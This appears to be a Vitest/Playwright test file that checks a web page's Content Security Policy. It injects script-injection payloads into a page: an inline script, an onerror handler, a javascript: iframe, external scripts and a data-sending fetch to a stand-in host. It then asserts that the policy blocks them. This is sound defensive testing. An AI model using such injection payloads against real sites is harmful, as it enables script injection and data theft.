import { expect, test } from "vitest";
import { servedSample } from "../support/served.ts";
import { watched, watchPage } from "../support/watched-page.ts";

const { open } = servedSample();

test.each(["/audit", "/nothing-of-the-kind"])(
  "%s does nothing that the content policy forbids",
  async (path) => {
    const { page } = await open(path, {}, (fresh) => fresh.addInitScript(watchPage));
    await page.getByRole("heading", { level: 1 }).waitFor();
    await page.waitForLoadState("networkidle");
    expect((await watched(page)).violations).toEqual([]);
    await page.close();
  },
);

test("a script, a handler, a frame or a style that got into a page does nothing", async () => {
  const { page } = await open("/", {}, (fresh) => fresh.addInitScript(watchPage));
  await page.getByRole("heading", { level: 1 }).waitFor();
  await page.evaluate(() => {
    const script = document.createElement("script");
    script.textContent = "window.ran = true";
    document.body.append(script);
    const holder = document.createElement("div");
    holder.innerHTML =
      '<img src="data:image/gif,x" onerror="window.ran = true"><b style="color: red">x</b>' +
      '<iframe src="javascript:parent.ran = true"></iframe><script src="https://elsewhere.example/x.js"></script>';
    document.body.append(holder);
    const foreign = document.createElement("script");
    foreign.src = "https://elsewhere.example/x.js";
    document.body.append(foreign);
    void fetch("https://elsewhere.example/take?x=1").catch(() => undefined);
  });
  const directives = ["connect-src", "img-src", "script-src-elem", "style-src-attr"];
  await expect.poll(async () => (await watched(page)).violations).toEqual(expect.arrayContaining(directives));
  expect((await watched(page)).ran).toBe(false);
  await page.close();
});
